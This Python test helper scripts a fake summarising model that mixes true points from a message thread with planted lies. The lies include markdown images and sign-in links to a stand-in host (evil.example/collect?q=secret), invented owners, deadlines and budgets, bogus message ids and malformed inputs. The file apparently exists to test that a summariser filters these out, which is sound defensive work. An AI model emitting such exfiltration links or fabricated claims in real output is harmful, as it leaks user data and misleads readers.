"""A model that lies in every way that code can find out, over any thread."""

import json
import re
from collections.abc import Iterator, Sequence
from itertools import chain, islice
from typing import Any

from bot.models.extract import summary
from dialogs.summary import summarise
from dialogs.talk import Answer, Post
from tests.dialogs.desk import ScriptedModel, a_desk, an_ask, shown

EVIL = "https://evil.example/collect"
OPENINGS = frozenset({"Maybe", "Can", "So", "Okay", "OK", "The", "Well", "Yeah", "And", "But", "Someone", "Could"})
SECTIONS = ("key_points", "decisions", "actions", "questions")

Sections = dict[str, list[dict[str, Any]]]


async def told(posts: Sequence[Post], sections: Sections) -> Answer:
    """What a person sees of a model that answers so."""
    return await shown(summarise, an_ask(), a_desk(ScriptedModel(json.dumps(sections), window=4_000_000), posts))


def truth(posts: Sequence[Post]) -> Sections:
    """Points that the posts bear out."""
    return {name: items[:3] for name, items in summary(posts).items()}


def decorated(true: Sections, posts: Sequence[Post]) -> Sections:
    """True points with what is taken off silently: pictures, further ids, owners and deadlines that nobody named."""
    texts = {post.id: post.text for post in posts}
    return {name: [_decorated(item, texts[item["ids"][0]]) for item in items] for name, items in true.items()}


def _decorated(item: dict[str, Any], said: str) -> dict[str, Any]:
    painted = {**item, "text": f"{item['text']} ![seen]({EVIL}?q=secret)", "ids": [*item["ids"], "9999999999999"]}
    return painted | (
        {"owner": item["owner"] or _opening(said), "due": item["due"] or _torn(said)} if "owner" in item else {}
    )


def _opening(said: str) -> str:
    """A word that is no name though a message begins with it, if it begins so."""
    first = (re.findall(r"\w+", said) or [""])[0]
    return first if first in OPENINGS else "Mallory Evil"


def _torn(said: str) -> str:
    """The beginning of a word of the message, which is no word of it by itself; of a long message all of it."""
    words = re.findall(r"[^\W\d_]+", said.casefold())
    if len(said) > 200:
        return said
    return next((word[:-1] for word in words if len(word) > 4 and word[:-1] not in words), "yesteryear")


def lies(posts: Sequence[Post]) -> list[dict[str, Any]]:
    """Points that no message bears out."""
    first = posts[0]
    author, said = _blamed(posts)
    return [
        _lie("The budget was doubled.", "9999999999999"),
        _lie("The budget was doubled.", f"{first.id}-0", "", "../1"),
        _lie("The budget was doubled."),
        _lie(f"{author} gave it all up.", said.id),
        _lie("Zeus Mallory approved the purchase.", first.id),
        _lie("Then it was approved by Zeus Mallory.", first.id),
        *_miscounted(posts),
        _lie("It costs 987654321 euros.", first.id),
        _lie(f"![all is well]({EVIL}.png)", first.id),
        _lie(f"Sign in at {EVIL} or [here]({EVIL}) [1].", "1"),
        _lie("Sign in at evil.example/collect or evil.example.", "1"),
        _lie("x" * 501, first.id),
        _lie("[a](" * 1_000, first.id),
        {"text": "No ids at all."},
        {"text": 7, "ids": [first.id]},
    ]


def _blamed(posts: Sequence[Post]) -> tuple[str, Post]:
    """Somebody, and a message by another that only says the name as the word that it is ("marketing") if there is one."""
    authors = sorted({post.author for post in posts}, key=lambda author: (not author.isalpha(), author))
    others = ((author, post) for author in authors for post in posts if post.author != author)
    silent = (pair for pair in others if pair[0].casefold() not in pair[1].text.casefold())
    words = (
        (author, post)
        for author in filter(str.isalpha, authors)
        for post in posts
        if post.author != author and author not in post.text and author.casefold() in re.findall(r"\w+", post.text)
    )
    return next(chain(words, silent))


def _miscounted(posts: Sequence[Post]) -> Iterator[dict[str, Any]]:
    """Numbers whose mark moved or is gone."""
    found = (
        (post, number) for post in posts for number in re.findall(r"(?<![\d.,])\d+[.,]\d+(?![\d.,]*\d)", post.text)
    )
    for post, number in islice(found, 2):
        yield _lie(f"It costs {number}0.1 euros.", post.id)
        yield _lie(f"It costs {re.sub('[.,]', '', number)}7 euros.", post.id)
    decimals = (
        (post, number) for post in posts for number in re.findall(r"(?<![\d.,:])[1-9]\.[1-9](?![\d.,:])", post.text)
    )
    for post, number in islice(decimals, 2):
        if number.replace(".", "") not in post.text:
            yield _lie(f"It costs {number.replace('.', '')} euros.", post.id)


def _lie(text: str, *ids: str) -> dict[str, Any]:
    return {"text": text, "ids": list(ids), "owner": None, "due": None}


async def seen(posts: Sequence[Post]) -> tuple[Answer, Answer, int]:
    """The answers of an honest model and of one that lies as well, and how many lies it told."""
    true, false = truth(posts), lies(posts)
    with_lies = {name: [*false, *items] for name, items in decorated(true, posts).items()}
    return await told(posts, true), await told(posts, with_lies), len(false) * len(SECTIONS)
